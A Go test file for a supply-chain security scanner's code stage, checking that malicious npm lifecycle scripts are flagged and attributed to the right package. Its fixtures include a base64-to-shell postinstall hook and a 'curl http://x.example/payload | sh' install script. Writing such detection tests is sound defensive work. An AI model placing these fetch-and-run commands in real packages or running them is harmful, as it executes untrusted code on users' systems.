package analysis

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"testing"

	"github.com/quay/zlog"

	"github.com/chainlock/chainlock"
	"github.com/chainlock/chainlock/ecosystem"
	"github.com/chainlock/chainlock/ecosystem/defaults"
	"github.com/chainlock/chainlock/registry"
)

func TestMain(m *testing.M) {
	defaults.Register()
	m.Run()
}

func TestCodeStageScansHighRiskDependency(t *testing.T) {
	ctx := zlog.Test(context.Background(), t)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/evil-stream/0.1.1" {
			http.NotFound(w, r)
			return
		}
		fmt.Fprint(w, `{
			"name": "evil-stream",
			"version": "0.1.1",
			"scripts": {"postinstall": "echo aGk= | base64 --decode | sh"}
		}`)
	}))
	defer srv.Close()

	root := chainlock.PackageRef{Name: "app", Version: "1.0.0", Ecosystem: chainlock.NPM}
	mal := chainlock.PackageRef{Name: "evil-stream", Version: "0.1.1", Ecosystem: chainlock.NPM}
	sc := NewSharedContext("/proj", chainlock.NPM)
	sc.Manifest = &ecosystem.Manifest{Ecosystem: chainlock.NPM, Root: root}
	sc.MarkHighRisk(mal, "known-malicious package")

	st := &CodeStage{Registry: registry.New(
		registry.WithClient(srv.Client()),
		registry.WithRoot(chainlock.NPM, srv.URL),
	)}
	data, _, err := st.Run(ctx, sc)
	if err != nil {
		t.Fatal(err)
	}
	cd := data.(*CodeData)
	if len(cd.Findings) == 0 {
		t.Fatal("registry install script produced no findings")
	}
	for _, f := range cd.Findings {
		if f.Package != mal {
			t.Errorf("finding attributed to %v, want %v", f.Package, mal)
		}
	}
	// The lifecycle hook promotes the base64-to-shell match.
	if got := cd.Findings[0].Severity; got != chainlock.Critical {
		t.Errorf("severity: got: %v, want: critical", got)
	}
	if _, ok := cd.Complexity[mal]; !ok {
		t.Error("complexity not keyed to the scanned package")
	}
	if _, ok := cd.Complexity[root]; ok {
		t.Error("complexity recorded for the unscanned root")
	}
}

func TestCodeStageScansManifestForRoot(t *testing.T) {
	ctx := zlog.Test(context.Background(), t)
	root := chainlock.PackageRef{Name: "app", Version: "1.0.0", Ecosystem: chainlock.NPM}
	sc := NewSharedContext("/proj", chainlock.NPM)
	sc.Manifest = &ecosystem.Manifest{
		Ecosystem: chainlock.NPM,
		Root:      root,
		Scripts: []ecosystem.Script{{
			Hook:               "postinstall",
			Command:            `curl http://x.example/payload | sh`,
			LifecycleSensitive: true,
		}},
	}
	sc.MarkHighRisk(root, "rule finding remote_code_execution")

	// No registry client: the root's material comes from the manifest.
	var st CodeStage
	data, _, err := st.Run(ctx, sc)
	if err != nil {
		t.Fatal(err)
	}
	cd := data.(*CodeData)
	if len(cd.Findings) == 0 {
		t.Fatal("manifest script produced no findings")
	}
	if got := cd.Findings[0].Package; got != root {
		t.Errorf("finding attributed to %v, want the root", got)
	}
	if _, ok := cd.Complexity[root]; !ok {
		t.Error("complexity not keyed to the root")
	}
}

func TestCodeStageUnreachableRegistry(t *testing.T) {
	ctx := zlog.Test(context.Background(), t)
	mal := chainlock.PackageRef{Name: "evil-stream", Version: "0.1.1", Ecosystem: chainlock.NPM}
	sc := NewSharedContext("/proj", chainlock.NPM)
	sc.MarkHighRisk(mal, "known-malicious package")

	st := &CodeStage{Registry: registry.New(
		registry.WithRoot(chainlock.NPM, "https://registry.invalid/"),
	)}
	data, _, err := st.Run(ctx, sc)
	if err != nil {
		t.Fatal(err)
	}
	// An unreachable registry contributes nothing but never fails the stage.
	cd := data.(*CodeData)
	if len(cd.Findings) != 0 || len(cd.Complexity) != 0 {
		t.Errorf("got: %+v, want empty", cd)
	}
}
